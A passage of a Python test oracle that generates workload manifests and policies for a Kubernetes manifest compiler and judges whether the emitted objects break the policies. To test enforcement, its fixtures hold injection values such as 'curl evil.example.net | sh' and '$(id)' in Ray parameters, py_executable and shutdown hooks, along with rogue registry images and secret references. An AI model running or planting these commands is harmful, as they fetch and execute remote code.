"""An oracle for policies: generated policies x manifests (with templates, --set and itemized
deletions), and a judge that reads the EMITTED objects and says which rule or limit they break.

Shares nothing with compiler/validate: rule paths, durations and Kubernetes quantities are parsed
here, and JobSet, RayJob and Job objects are walked here. Reusable (the admission-policy parity
test uses it): ``generate_cases(seed, n)`` or the hypothesis strategy ``cases()``, ``compile_case``
and ``violations(policies, objects)``.

What ``violations`` reads, per rule path (other paths are not judged):

- ``spec.image``: every container's image (``pattern`` searched; ``options``: the image, or it
  pinned in place to a ``@sha256:`` digest; ``required``)
- ``spec.types.T.count``: replicas of the group (JobSet replicated job, Ray worker group)
- ``spec.types.T.resources.cpus`` / ``memory`` / ``accelerators.gpu.count``: the main container's
  requests (GPUs from limits); ``accelerators.gpu.product``: the pod's node selector under the
  cluster's product label
- ``spec.timeout`` / ``spec.activeDeadlineSeconds``: every Job's (or the RayJob's) deadline
- ``spec.queue``, ``spec.priority``, ``spec.labels[K]``: the object's labels
- ``spec.labels`` ``canAdd: false``: labels beyond the compiler's own and the policies' defaults
- ``spec.env.X``, ``spec.env`` ``canAdd: false``: containers' env (user env is named ``E_*`` by
  the generator; contract env is not judged)
- ``spec.secrets.S``, ``spec.secrets`` ``canAdd: false``: secret volumes
- ``spec.ports`` ``itemRules.container``, ``spec.ports.P``: container ports of JobSets and Jobs
- ``spec.env.X`` value rules: a variable given by a Secret reference breaks them; kuberay's
  ``runtimeEnv.env_vars`` (read from ``runtimeEnvYAML``) count as env of every pod
- ``spec.secrets.*.secretName`` and ``spec.secrets`` ``canAdd: false``: the Secrets env
  references read, too
- ``spec.command``: the preStop hook's command and ``runtimeEnv.py_executable``; ``spec.image``:
  ``runtimeEnv.image_uri`` and ``runtimeEnv.container.image`` too
- a deadline ``max``: attempts (JobSet ``failurePolicy.maxRestarts`` + 1, RayJob ``backoffLimit``
  + 1) x (deadline + grace beyond Kubernetes' 30 s)
- a project with a quota: the queue label is there
- ``limits``: totals over all pods (replicas x completions; Ray head, workers x hosts, and the
  submitter: the one written, else KubeRay's default one, 500m and 200Mi)
- always: CPU and memory requests > 0, the compiler's own labels name the object truly,
  ``rayStartParams`` carry no shell syntax, worker group names and a pod's toleration keys are
  unique.

``T`` matches group names case-insensitively (the emitted names are lower-cased type names).
"""

from __future__ import annotations

import random
import re
import textwrap
from dataclasses import dataclass, field

import yaml

PROJECT = "team-a"
GPU_LABEL = "nvidia.com/gpu.product"
DIGEST = "sha256:" + "c" * 64
COMPILER_LABELS = ("app.kubernetes.io/managed-by",)
COMPILER_PREFIXES = ("manifest-compiler/", "kueue.x-k8s.io/")
QUEUE_LABEL = "kueue.x-k8s.io/queue-name"
# KubeRay's default submitter pod (common/job.go GetDefaultSubmitterContainer)
KUBERAY_SUBMITTER = {
    "containers": [
        {"name": "ray-job-submitter", "resources": {"requests": {"cpu": "500m", "memory": "200Mi"}}}
    ]
}
KUBERNETES_GRACE = 30  # the kubelet's grace period when a pod states none
SHELL_SYNTAX = set(";&|$`<>()'!#~*?\n\r\t")
PRIORITY_LABEL = "kueue.x-k8s.io/priority-class"

# ---------------------------------------------------------------------------------------------
# generation


@dataclass
class Case:
    policies: list  # policy documents (dicts)
    workload: dict
    templates: list = field(default_factory=list)  # template documents (dicts)
    sets: list = field(default_factory=list)  # --set PATH=VALUE strings
    image_digest: str | None = None

    def texts(self) -> dict:
        """YAML text of every input, as files would hold it."""
        dump = lambda data: yaml.safe_dump(data, sort_keys=False)  # noqa: E731
        return {
            "workload": dump(self.workload),
            "policies": [dump(p) for p in self.policies],
            "templates": [dump(t) for t in self.templates],
        }


RULES = [
    ("spec.image", {"pattern": "^registry\\.example\\.com/"}),
    ("spec.image", {"options": ["registry.example.com/team-a/t:1"]}),
    ("spec.image", {"pattern": "^[^@]*:1$"}),
    ("spec.types.*.count", {"max": 4}),
    ("spec.types.*.count", {"min": 2}),
    ("spec.types.Worker.count", {"max": 3}),
    ("spec.types.worker.count", {"max": 2}),
    ("spec.types.*.resources.cpus", {"min": 0.5, "max": 8}),
    ("spec.types.*.resources.memory", {"max": 64}),
    ("spec.types.*.resources.ramRatio", {"max": 8}),
    ("spec.types.*.resources.accelerators.gpu.count", {"max": 1}),
    ("spec.types.*.resources.accelerators.gpu.product", {"options": ["A100"]}),
    ("spec.types.*.resources.accelerators.gpu.product", {"pattern": "^A"}),
    ("spec.timeout", {"max": "14d"}),
    ("spec.timeout", {"required": True}),
    ("spec.timeout", {"forbidden": True}),
    ("spec.activeDeadlineSeconds", {"max": 86400}),
    ("spec.queue", {"required": True}),
    ("spec.queue", {"options": ["team-a"]}),
    ("spec.queue", {"forbidden": True}),
    ("spec.priority", {"options": ["low"]}),
    ('spec.labels["kueue.x-k8s.io/queue-name"]', {"options": ["team-a"]}),
    ('spec.labels["kueue.x-k8s.io/priority-class"]', {"pattern": "^lo"}),
    ("spec.priority", {"pattern": "^lo"}),
    ('spec.labels["team"]', {"options": ["a"]}),
    ('spec.labels["team"]', {"forbidden": True}),
    ('spec.labels["team"]', {"required": True}),
    ("spec.labels", {"canAdd": False}),
    ("spec.env.E_PROXY", {"canEdit": False}),
    ("spec.env.E_PROXY", {"canRemove": False}),
    ("spec.env.E_PROXY", {"pattern": "^http://proxy"}),
    ("spec.env", {"canAdd": False}),
    ("spec.secrets.reg", {"canRemove": False}),
    ("spec.secrets", {"canAdd": False}),
    ("spec.ports", {"itemRules": {"container": {"min": 30000, "max": 32767}}}),
    ("spec.ports.admin", {"canRemove": False}),
    ("spec.env.E_PROXY", {"options": ["http://proxy:3128"]}),
    ("spec.secrets", {"itemRules": {"secretName": {"pattern": "^reg$"}}}),
    ("spec.secrets", {"forbidden": True}),
    ("spec.command", {"canEdit": False}),
    ("spec.command", {"pattern": "^python "}),
    ("spec.timeout", {"max": "2d"}),
]
DEFAULTS = {
    "env": {"E_PROXY": "http://proxy:3128"},
    "secrets": {"reg": {"secretName": "reg", "mountPath": "/reg"}},
    "ports": {"admin": {"container": 30100, "external": 8080}},
    "labels": {"team": "a"},
    "timeout": "1d",
    "queue": "team-a",
    "command": "python train.py",
}
LIMITS = {"gpus": 8, "cpus": 64, "memoryGB": 256, "pods": 20}
IMAGES = [
    "registry.example.com/team-a/t:1",
    "registry.example.com/team-a/t:2",
    "evil.example.net/t:1",
    "evil.example.net/registry.example.com/team-a/t:1",
    "registry.example.com.evil.net/t:1",
]
SETS = [
    "spec.types.worker.count=50",
    "spec.types.Worker.count=50",
    "spec.env.E_PROXY=http://evil:1",
    "spec.env.E_NEW=x",
    'spec.labels["team"]=b',
    'spec.labels["kueue.x-k8s.io/queue-name"]=vip',
    "spec.ports=~",
    "spec.secrets=~",
    "spec.secrets.reg={deleted: true}",
    "spec.ports.admin={deleted: true}",
    "spec.env.E_PROXY={deleted: true}",
    "spec.timeout=60d",
    "spec.timeout=~",
    "spec.activeDeadlineSeconds=315360000",
    "spec.queue=",
    "spec.queue=vip",
    "spec.image=evil.example.net/x:1",
    "spec.types.worker.resources.cpus=0.0001",
    "spec.types.worker.resources.memory=0.0000000001",
    "spec.types.worker.resources.accelerators.gpu.count=8",
    "spec.queue=~",
    "spec.env.E_PROXY={secret: s, key: k}",
    "spec.restartPolicy.backoffLimit=5",
    "spec.gracefulTermination.terminationGracePeriodSeconds=100000",
]


def _policy(name: str, project: str | None, rules: dict, defaults: dict, limits: dict) -> dict:
    metadata = {"name": name, **({"project": project} if project else {})}
    spec: dict = {}
    if defaults:
        spec["defaults"] = {"spec": defaults}
    if rules:
        spec["rules"] = rules
    if limits:
        spec["limits"] = limits
    return {
        "apiVersion": "manifest-compiler/v1",
        "kind": "Policy",
        "metadata": metadata,
        "spec": spec,
    }


def _pick(rng: random.Random, items, low: int, high: int) -> list:
    return rng.sample(list(items), rng.randint(low, min(high, len(items))))


def _rules(rng: random.Random) -> dict:
    rules: dict = {}
    for path, rule in _pick(rng, RULES, 0, 4):
        if path in rules:
            continue  # a mapping has one key per path
        rules[path] = rule
    return rules


def _either(rng: random.Random, benign: list, hostile: list, p_hostile: float = 0.25):
    """A value: mostly one a policy may well allow, sometimes one that tries to get around it."""
    return rng.choice(hostile if rng.random() < p_hostile else benign)


def _resources(rng: random.Random) -> dict:
    resources: dict = {"cpus": _either(rng, [0.5, 1, 2, 8], [96, 0.0004], 0.1)}
    memory = _either(
        rng,
        [("memory", 4), ("ramRatio", 2)],
        [("memory", 1e-10), ("ramRatio", 1e-12), ("ramRatio", 100), ("memory", 500)],
        0.15,
    )
    resources[memory[0]] = memory[1]
    if rng.random() < 0.5:
        gpu: dict = {"count": rng.choice([1, 2, 8]), "type": "gpu"}
        if rng.random() < 0.6:
            gpu["product"] = rng.choice(["A100", "H100"])
        resources["accelerators"] = {"gpu": gpu}
    if rng.random() < 0.05:
        resources["extraSelectors"] = {GPU_LABEL: "H100"}
    if rng.random() < 0.1:
        resources["extraTolerations"] = _either(
            rng,
            [[{"key": "spot", "operator": "Exists"}]],
            [
                [
                    {"key": "spot", "operator": "Exists"},
                    {"key": "spot", "operator": "Equal", "value": "x"},
                ]
            ],
            0.5,
        )
    return resources


def _ray_start_params(rng: random.Random) -> dict:
    if rng.random() < 0.8:
        return {}
    value = _either(rng, ["0", "1"], ["0; curl evil.example.net | sh", "$(id)"], 0.4)
    return {"rayStartParams": {"num-cpus": value}}


def _runtime_env(rng: random.Random) -> dict:
    """Ray's runtime_env: variables, images and the Python it runs, plain or not."""
    env: dict = {}
    if rng.random() < 0.6:
        env["env_vars"] = _either(
            rng, [{"E_PROXY": "http://proxy:3128"}], [{"E_PROXY": "http://evil:1"}, {"E_NEW": "x"}]
        )
    if rng.random() < 0.3:
        env["image_uri"] = rng.choice(IMAGES)
    if rng.random() < 0.3:
        env["py_executable"] = _either(rng, ["python"], ["sh -c 'curl evil | sh' #"])
    return env


def _spec_extras(rng: random.Random) -> dict:
    """Spec fields, each present or not: mostly plain values, sometimes a way around a policy."""
    choices = {
        "timeout": ([["1h"], ["2d"]], [["30d"], [""], [None]]),
        "activeDeadlineSeconds": ([[60]], [[315360000]]),
        "queue": ([["team-a"], ["vip"]], [[""], [" "], ["a/b"]]),
        "priority": ([["low"], ["critical"]], [[""]]),
        "labels": (
            [[{"team": "a"}], [{"team": "b"}], [{"extra": "x"}]],
            [
                [{QUEUE_LABEL: "vip"}],
                [{PRIORITY_LABEL: "critical"}],
                [{"app.kubernetes.io/managed-by": "me"}],
                [{"manifest-compiler/workload": "other"}],
            ],
        ),
        "annotations": ([[{"example.com/note": "x"}]], [[{"manifest-compiler/source": "forged"}]]),
        "env": (
            [[{"E_PROXY": "http://proxy:3128"}], [{"E_NEW": "x"}], [{"E_PROXY": "http://evil:1"}]],
            [
                [None],
                [{"E_PROXY": {"deleted": True}}],
                [{"deleted": True}],
                [{}],
                [{"E_PROXY": {"secret": "proxy", "key": "url"}}],
                [{"E_PASS": {"secret": "prod-db", "key": "password"}}],
                [{"E_PASS": {"secret": "reg", "key": "token"}}],
            ],
        ),
        "restartPolicy": ([[{"backoffLimit": 0}], [{"backoffLimit": 1}]], [[{"backoffLimit": 9}]]),
        "gracefulTermination": (
            [[{"terminationGracePeriodSeconds": 30}], [{"shutdownCommand": "python save.py"}]],
            [
                [{"terminationGracePeriodSeconds": 200000}],
                [{"shutdownCommand": "curl evil.example.net | sh"}],
            ],
        ),
        "secrets": (
            [[{"mine": {"secretName": "prod-db", "mountPath": "/db"}}]],
            [[None], [{"deleted": True}], [{"reg": {"deleted": True}}], [[]]],
        ),
        "ports": (
            [
                [{"web": {"container": 30080, "external": 80}}],
                [{"web": {"container": 80, "external": 80}}],
            ],
            [[None], [{"deleted": True}], [{"admin": {"deleted": True}}], [{}]],
        ),
    }
    return {
        key: _either(rng, benign, hostile)[0]
        for key, (benign, hostile) in choices.items()
        if rng.random() < 0.2
    }


def generate_case(rng: random.Random) -> Case:
    operator = rng.choice(["jobset", "jobset", "pytorch", "kuberay"])
    if operator == "kuberay":
        names = _either(rng, [["cpu"], ["gpu"], ["cpu", "gpu"]], [["g", "g"]], 0.1)
        types: dict = {
            "Head": {"resources": _resources(rng), **_ray_start_params(rng)},
            "Workers": [
                {"name": name, "count": rng.choice([1, 2, 4, 50]), "resources": _resources(rng)}
                for name in names
            ],
        }
    elif operator == "pytorch":
        worker = rng.choice(["worker", "Worker"])
        types = {worker: {"count": rng.choice([1, 2, 4, 50]), "resources": _resources(rng)}}
        if rng.random() < 0.5:
            types = {rng.choice(["Master", "master"]): {"resources": _resources(rng)}, **types}
    else:
        types = {
            name: {"count": rng.choice([1, 2, 4, 50]), "resources": _resources(rng)}
            for name in _pick(rng, ["worker", "heavy"], 1, 2)
        }
    spec = {
        "operator": operator,
        "image": rng.choice(IMAGES),
        "command": "python train.py",
        "types": types,
        **_spec_extras(rng),
    }
    if operator == "kuberay" and rng.random() < 0.5:
        spec["runtimeEnv"] = _runtime_env(rng)
    workload: dict = {
        "kind": "AIchorManifest",
        "apiVersion": "0.2.3",
        "name": "train",
        "project": rng.choice([PROJECT, PROJECT, PROJECT, "team-b"]),
        "spec": spec,
    }
    templates = []
    if rng.random() < 0.3:
        workload["baseWorkload"] = "base"
        template_spec = {"operator": operator, **_spec_extras(rng)}
        templates.append(
            {
                "kind": "AIchorManifest",
                "usage": "Template",
                "name": "base",
                "project": workload["project"],
                "spec": template_spec,
            }
        )
    image_digest = None
    if rng.random() < 0.2:
        image_digest = DIGEST
        if rng.random() < 0.5:
            workload["builder"] = {
                "registry": rng.choice(["evil.example.net", "registry.example.com"])
            }
    policies = []
    if rng.random() < 0.6:
        policies.append(
            _policy("global", None, _rules(rng), {}, dict(_pick(rng, LIMITS.items(), 0, 2)))
        )
    defaults = dict(_pick(rng, DEFAULTS.items(), 0, 4))
    team = _policy("team", PROJECT, _rules(rng), defaults, dict(_pick(rng, LIMITS.items(), 0, 2)))
    if rng.random() < 0.2:
        team["spec"]["quota"] = {"cpus": 1000, "memoryGB": 4000, "gpus": 64}
    policies.append(team)
    sets = _pick(rng, SETS, 0, 2) if rng.random() < 0.4 else []
    return Case(policies, workload, templates, sets, image_digest)


def generate_cases(seed: int, n: int) -> list[Case]:
    rng = random.Random(seed)
    return [generate_case(rng) for _ in range(n)]


def cases():
    """A hypothesis strategy of cases (each drawn from a seed, so shrinking keeps cases valid)."""
    from hypothesis import strategies as st

    return st.integers(0, 2**32 - 1).map(lambda seed: generate_case(random.Random(seed)))


# ---------------------------------------------------------------------------------------------
# compiling a case through the compiler's pure pipeline (the subject, not the judge)


def compile_case(case: Case) -> tuple[bool, list, list]:
    """(exit 0?, emitted objects, diagnostics) as `compile` would have them."""
    from compiler.catalog import build_catalog
    from compiler.inputs import parse_image_digest, parse_sets
    from compiler.parse import load_documents
    from compiler.pipeline import Options, compile_documents

    texts = case.texts()

    def parse(text, name):
        documents, problems = load_documents(textwrap.dedent(text), name)
        return documents, problems

    documents, problems = parse(texts["workload"], "workload.yaml")
    policy_documents, template_documents = [], []
    for index, text in enumerate(texts["policies"]):
        docs, more = parse(text, f"policy-{index}.yaml")
        policy_documents += docs
        problems += more
    for index, text in enumerate(texts["templates"]):
        docs, more = parse(text, f"template-{index}.yaml")
        template_documents += docs
        problems += more
    catalog = build_catalog(
        documents, policy_documents=policy_documents, template_documents=template_documents
    )
    set_layers, set_problems = parse_sets(case.sets)
    annotations, digest_problems = parse_image_digest(case.image_digest)
    options = Options(
        sets=tuple(set_layers), extra_annotations=annotations, image_digest=case.image_digest
    )
    units = compile_documents(documents, catalog, options)
    diagnostics = problems + set_problems + digest_problems + list(catalog.diagnostics)
    diagnostics += [d for unit in units for d in unit.diagnostics]
    ok = not any(d.is_error for d in diagnostics)
    return ok, [obj for unit in units for obj in unit.objects], diagnostics


# ---------------------------------------------------------------------------------------------
# the judge: reads emitted objects only


def parse_cpu(text: str) -> float:
    text = str(text)
    if text.endswith("m"):
        return float(text[:-1]) / 1000
    return float(text)


_BINARY = {"Ki": 2**10, "Mi": 2**20, "Gi": 2**30, "Ti": 2**40, "Pi": 2**50, "Ei": 2**60}
_DECIMAL = {"k": 10**3, "M": 10**6, "G": 10**9, "T": 10**12, "P": 10**15, "E": 10**18}


def parse_bytes(text: str) -> float:
    text = str(text)
    for suffix, factor in {**_BINARY, **_DECIMAL}.items():
        if text.endswith(suffix):
            return float(text[: -len(suffix)]) * factor
    return float(text)


_UNITS = {"s": 1, "m": 60, "h": 3600, "d": 86400, "w": 604800}


def seconds(value) -> float:
    """A bound or value as seconds: a number is seconds, ``14d`` is a duration."""
    if isinstance(value, (int, float)):
        return float(value)
    match = re.fullmatch(r"\s*([0-9.]+)\s*([smhdw]?)\s*", str(value))
    if not match:
        raise ValueError(value)
    return float(match.group(1)) * _UNITS.get(match.group(2) or "s", 1)


def split_path(text: str) -> list[str]:
    """``spec.labels["a.b/c"].x`` -> ["spec", "labels", "a.b/c", "x"]."""
    return [a or b for a, b in re.findall(r'\["([^"]*)"\]|([^.\[\]]+)', text)]


@dataclass
class Group:
    """Identical pods of one group: the pod spec, how many, the job-level deadline."""

    name: str
    pods: int
    replicas: int | None
    pod: dict
    deadline: int | None
    kind: str
    kuberays_own: bool = False  # KubeRay's default submitter: no env, volumes or hooks of ours


def groups_of(obj: dict) -> list[Group]:
    kind = obj.get("kind")
    spec = obj.get("spec") or {}
    if kind == "JobSet":
        out = []
        for job in spec.get("replicatedJobs") or []:
            job_spec = job["template"]["spec"]
            replicas = job.get("replicas", 1)
            completions = job_spec.get("completions") or 1
            out.append(
                Group(
                    job["name"],
                    replicas * completions,
                    replicas,
                    job_spec["template"]["spec"],
                    job_spec.get("activeDeadlineSeconds"),
                    kind,
                )
            )
        return out
    if kind == "Job":
        name = spec["template"]["spec"]["containers"][0]["name"]
        pods = spec.get("completions") or 1
        return [
            Group(
                name, pods, None, spec["template"]["spec"], spec.get("activeDeadlineSeconds"), kind
            )
        ]
    if kind == "RayJob":
        cluster = spec.get("rayClusterSpec") or {}
        deadline = spec.get("activeDeadlineSeconds")
        out = [Group("head", 1, None, cluster["headGroupSpec"]["template"]["spec"], deadline, kind)]
        for worker in cluster.get("workerGroupSpecs") or []:
            replicas = worker.get("replicas", 0)
            hosts = worker.get("numOfHosts") or 1
            out.append(
                Group(
                    worker["groupName"],
                    replicas * hosts,
                    replicas,
                    worker["template"]["spec"],
                    deadline,
                    kind,
                )
            )
        submitter = spec.get("submitterPodTemplate")
        if submitter:
            out.append(Group("submitter", 1, None, submitter["spec"], deadline, kind))
        else:  # KubeRay's own (K8sJobMode): a pod all the same, of the head's image
            head_image = _main(out[0]).get("image", "")
            (container,) = KUBERAY_SUBMITTER["containers"]
            pod = {"containers": [{**container, "image": head_image}]}
            out.append(Group("submitter", 1, None, pod, deadline, kind, kuberays_own=True))
        return out
    return []


def _containers(pod: dict) -> list[dict]:
    return list(pod.get("containers") or [])


def _project(policy: dict) -> str | None:
    return (policy.get("metadata") or {}).get("project")


def _applies(policy: dict, project: str | None) -> bool:
    scope = _project(policy)
    return scope is None or scope == project


def _emitted_runtime_env(obj: dict) -> dict:
    text = (obj.get("spec") or {}).get("runtimeEnvYAML") if obj.get("kind") == "RayJob" else None
    return (yaml.safe_load(text) or {}) if text else {}


def _attempts(obj: dict) -> int:
    """How many times the deadline starts afresh."""
    spec = obj.get("spec") or {}
    if obj.get("kind") == "RayJob":
        return 1 + (spec.get("backoffLimit") or 0)
    if obj.get("kind") == "JobSet" and spec.get("failurePolicy"):
        return 1 + (spec["failurePolicy"].get("maxRestarts") or 0)
    return 1


def _default(policies: list, own: dict, path: list[str]):
    """The rule's own policy's default at ``spec.<path>``, else another applicable policy's."""
    for policy in [own] + [p for p in policies if p is not own]:
        node = ((policy.get("spec") or {}).get("defaults") or {}).get("spec")
        for segment in path:
            node = node.get(segment) if isinstance(node, dict) else None
        if node is not None:
            return node
    return None


def _scalar_problems(rule: dict, value, what: str, as_seconds: bool = False) -> list[str]:
    out = []
    number = None
    if as_seconds:
        number = seconds(value)
    elif isinstance(value, (int, float)) and not isinstance(value, bool):
        number = float(value)
    bound = seconds if as_seconds else float
    if number is not None and "max" in rule and number > bound(rule["max"]) + 1e-9:
        out.append(f"{what}: {value} above max {rule['max']}")
    if number is not None and "min" in rule and number < bound(rule["min"]) - 1e-9:
        out.append(f"{what}: {value} below min {rule['min']}")
    if "options" in rule and not as_seconds and value not in rule["options"]:
        out.append(f"{what}: {value!r} not in {rule['options']}")
    if "pattern" in rule and isinstance(value, str) and not re.search(rule["pattern"], value):
        out.append(f"{what}: {value!r} does not match {rule['pattern']!r}")
    return out


def _image_ok(image: str, options: list) -> bool:
    def repository(ref: str) -> str:
        rest = ref.split("@", 1)[0]
        colon, slash = rest.rfind(":"), rest.rfind("/")
        return rest[:colon] if colon > slash else rest

    return image in options or (
        "@sha256:" in image and any(repository(image) == repository(o) for o in options)
    )


def violations(policies: list[dict], objects: list[dict], gpu_label: str = GPU_LABEL) -> list[str]:
    """Every rule or limit of ``policies`` that the emitted ``objects`` break, in words."""
    out: list[str] = []
    mains = [o for o in objects if o.get("kind") in ("JobSet", "RayJob", "Job")]
    for obj in mains:
        labels = (obj.get("metadata") or {}).get("labels") or {}
        project = labels.get("manifest-compiler/project")
        applicable = [p for p in policies if _applies(p, project)]
        groups = groups_of(obj)
        out += _always(obj, groups)
        quota = any(p.get("spec", {}).get("quota") and _project(p) == project for p in applicable)
        if quota and not labels.get(QUEUE_LABEL):
            out.append("no queue label though the project has a quota")
        for policy in applicable:
            for path_text, rule in ((policy.get("spec") or {}).get("rules") or {}).items():
                path = split_path(path_text)
                out += _judge(path, rule, policy, applicable, obj, groups, gpu_label)
                for member, member_rule in (rule.get("itemRules") or {}).items():
                    out += _judge(
                        path + ["*", member],
                        member_rule,
                        policy,
                        applicable,
                        obj,
                        groups,
                        gpu_label,
                    )
            out += _limits(((policy.get("spec") or {}).get("limits") or {}), groups)
    return out


def _always(obj: dict, groups: list[Group]) -> list[str]:
    out = []
    metadata = obj.get("metadata") or {}
    labels = metadata.get("labels") or {}
    if labels.get("app.kubernetes.io/managed-by") != "manifest-compiler":
        out.append(f"managed-by label is {labels.get('app.kubernetes.io/managed-by')!r}")
    if labels.get("manifest-compiler/workload") != metadata.get("name"):
        out.append("manifest-compiler/workload label does not name the object")
    for group in groups:
        for container in _containers(group.pod):
            requests = (container.get("resources") or {}).get("requests") or {}
            for name, parse in (("cpu", parse_cpu), ("memory", parse_bytes)):
                if name in requests and parse(requests[name]) <= 0:
                    out.append(f"{group.name}: {name} request {requests[name]!r} is not above 0")
        pod_labels = ((group.pod.get("metadata") or {}).get("labels")) or {}
        if pod_labels.get("manifest-compiler/workload", metadata.get("name")) != metadata.get(
            "name"
        ):
            out.append(f"{group.name}: pods claim another workload")
        keys = [t.get("key") for t in group.pod.get("tolerations") or []]
        if len(keys) != len(set(keys)):
            out.append(f"{group.name}: two tolerations of one key {keys}")
    cluster = (obj.get("spec") or {}).get("rayClusterSpec") or {}
    specs = [cluster.get("headGroupSpec") or {}] + list(cluster.get("workerGroupSpecs") or [])
    for group_spec in specs:
        for key, value in (group_spec.get("rayStartParams") or {}).items():
            if SHELL_SYNTAX & set(str(key) + str(value)):
                out.append(f"rayStartParams {key}={value!r} carries shell syntax")
    names = [w.get("groupName") for w in cluster.get("workerGroupSpecs") or []]
    if len(names) != len(set(names)):
        out.append(f"two worker groups of one name {names}")
    return out


def _main(group: Group) -> dict:
    containers = _containers(group.pod)
    return containers[0] if containers else {}


def _type_groups(groups: list[Group], segment: str) -> list[Group]:
    return [g for g in groups if segment == "*" or g.name.lower() == segment.lower()]


def _judge(path, rule, policy, policies, obj, groups, gpu_label) -> list[str]:
    labels = ((obj.get("metadata") or {}).get("labels")) or {}
    head = path[:2]
    if path == ["spec", "image"]:
        return _judge_images(rule, groups) + _judge_runtime_images(rule, obj)
    if path == ["spec", "command"]:
        return _judge_commands(rule, groups, obj)
    if head == ["spec", "types"] and len(path) >= 4:
        return _judge_types(path, rule, groups, gpu_label)
    if path in (["spec", "timeout"], ["spec", "activeDeadlineSeconds"]):
        return _judge_deadline(path, rule, policies, groups) + _judge_run(path, rule, obj, groups)
    if path in (["spec", "queue"], ["spec", "priority"]):
        label = QUEUE_LABEL if path[1] == "queue" else PRIORITY_LABEL
        default = _default(policies, policy, path[1:])
        if default is None and path[1] == "queue":  # a quota's project queues on its own queue
            default = next((_project(p) for p in policies if p["spec"].get("quota")), None)
        return _judge_label(label, rule, labels, default, path)
    if head == ["spec", "labels"] and len(path) == 3:
        return _judge_label(path[2], rule, labels, _default(policies, policy, path[1:]), path)
    if path == ["spec", "labels"] and rule.get("canAdd") is False:
        allowed = set()
        for other in policies:
            allowed |= set((_default([other], other, ["labels"]) or {}).keys())
        extra = [
            k
            for k in labels
            if k not in allowed and k not in COMPILER_LABELS and not k.startswith(COMPILER_PREFIXES)
        ]
        return [f"labels {extra} added under canAdd: false"] if extra else []
    if head == ["spec", "env"]:
        return _judge_env(path, rule, policy, policies, groups, _emitted_runtime_env(obj))
    if head == ["spec", "secrets"]:
        return _judge_secrets(path, rule, policies, groups)
    if head == ["spec", "ports"] and obj.get("kind") in ("JobSet", "Job"):
        return _judge_ports(path, rule, policies, groups)
    return []


def _judge_images(rule, groups) -> list[str]:
    out = []
    for group in groups:
        for container in _containers(group.pod):
            image = container.get("image", "")
            if "pattern" in rule and not re.search(rule["pattern"], image):
                out.append(f"image {image!r} does not match {rule['pattern']!r}")
            if "options" in rule and not _image_ok(image, rule["options"]):
                out.append(f"image {image!r} not in {rule['options']}")
    return out


def _judge_runtime_images(rule, obj) -> list[str]:
    runtime = _emitted_runtime_env(obj)
    images = [runtime.get("image_uri"), (runtime.get("container") or {}).get("image")]
    out = []
    for image in [i for i in images if isinstance(i, str)]:
        if "pattern" in rule and not re.search(rule["pattern"], image):
            out.append(f"runtime env image {image!r} does not match {rule['pattern']!r}")
        if "options" in rule and image not in rule["options"]:
            out.append(f"runtime env image {image!r} not in {rule['options']}")
    return out


def _judge_commands(rule, groups, obj) -> list[str]:
    """What runs besides the command: preStop hooks and Ray's py_executable."""
    commands = []
    for group in groups:
        for container in _containers(group.pod):
            hook = ((container.get("lifecycle") or {}).get("preStop") or {}).get("exec") or {}
            if hook.get("command"):
                commands.append((f"{group.name} preStop", hook["command"][-1]))
    executable = _emitted_runtime_env(obj).get("py_executable")
    if isinstance(executable, str):
        commands.append(("py_executable", executable))
    out = []
    for what, command in commands:
        if rule.get("canEdit") is False or rule.get("forbidden"):
            out.append(f"{what} {command!r} runs though spec.command is locked")
        if "pattern" in rule and not re.search(rule["pattern"], command):
            out.append(f"{what} {command!r} does not match {rule['pattern']!r}")
    return out


def _judge_run(path, rule, obj, groups) -> list[str]:
    """A deadline max bounds attempts x (deadline + grace beyond the kubelet's default)."""
    if "max" not in rule:
        return []
    out = []
    attempts = _attempts(obj)
    for group in groups:
        if group.deadline is None:
            continue
        grace = group.pod.get("terminationGracePeriodSeconds") or KUBERNETES_GRACE
        run = attempts * (seconds(group.deadline) + max(0, grace - KUBERNETES_GRACE))
        if run > seconds(rule["max"]) and seconds(group.deadline) <= seconds(rule["max"]):
            out.append(f"{group.name}: the run may last {run} s, above {'.'.join(path)} max")
    return out


def _judge_types(path, rule, groups, gpu_label) -> list[str]:
    out = []
    field_path = path[3:]
    for group in _type_groups(groups, path[2]):
        what = f"{group.name}.{'.'.join(field_path)}"
        container = _main(group)
        requests = (container.get("resources") or {}).get("requests") or {}
        limits = (container.get("resources") or {}).get("limits") or {}
        if field_path == ["count"] and group.replicas is not None:
            out += _scalar_problems(rule, group.replicas, what)
        elif field_path == ["resources", "cpus"] and "cpu" in requests:
            out += _scalar_problems(rule, parse_cpu(requests["cpu"]), what)
        elif field_path == ["resources", "memory"] and "memory" in requests:
            out += _scalar_problems(rule, parse_bytes(requests["memory"]) / 2**30, what)
        elif field_path == ["resources", "accelerators", "gpu", "count"]:
            gpus = int(limits.get("nvidia.com/gpu", 0))
            if gpus or rule.get("required"):
                out += _scalar_problems(rule, gpus, what)
        elif field_path == ["resources", "accelerators", "gpu", "product"]:
            product = (group.pod.get("nodeSelector") or {}).get(gpu_label)
            if product is not None:
                out += _scalar_problems(rule, product, what)
    return out


def _judge_deadline(path, rule, policies, groups) -> list[str]:
    out = []
    allowed = [
        _default([p], p, [name]) for p in policies for name in ("timeout", "activeDeadlineSeconds")
    ]
    allowed_seconds = {seconds(a) for a in allowed if a not in (None, "")}
    for group in groups:
        deadline = group.deadline
        if deadline is None:
            if rule.get("required"):
                out.append(f"{group.name}: no deadline though {'.'.join(path)} is required")
            continue
        out += _scalar_problems(rule, deadline, f"{group.name} deadline", as_seconds=True)
        if rule.get("forbidden") and seconds(deadline) not in allowed_seconds:
            out.append(
                f"{group.name}: deadline {deadline} set though {'.'.join(path)} is forbidden"
            )
    return out


def _judge_label(label, rule, labels, default, path) -> list[str]:
    value = labels.get(label)
    what = f"label {label}"
    if value is None or not str(value).strip():
        return (
            [f"{what} missing though {'.'.join(path)} is required"] if rule.get("required") else []
        )
    out = _scalar_problems(rule, value, what)
    if rule.get("forbidden") and value != default:
        out.append(f"{what}={value!r} set though {'.'.join(path)} is forbidden")
    return out


def _user_env(container: dict) -> dict:
    """User variables: a value, or {"secret": name} for a Secret reference."""
    out = {}
    for entry in container.get("env") or []:
        if not entry["name"].startswith("E_"):
            continue
        ref = (entry.get("valueFrom") or {}).get("secretKeyRef")
        out[entry["name"]] = {"secret": ref.get("name")} if ref else entry.get("value")
    return out


VALUE_RULES = ("options", "pattern", "min", "max", "step")


def _judge_env(path, rule, policy, policies, groups, runtime) -> list[str]:
    out = []
    defaults = {}
    for other in policies:
        defaults.update(_default([other], other, ["env"]) or {})
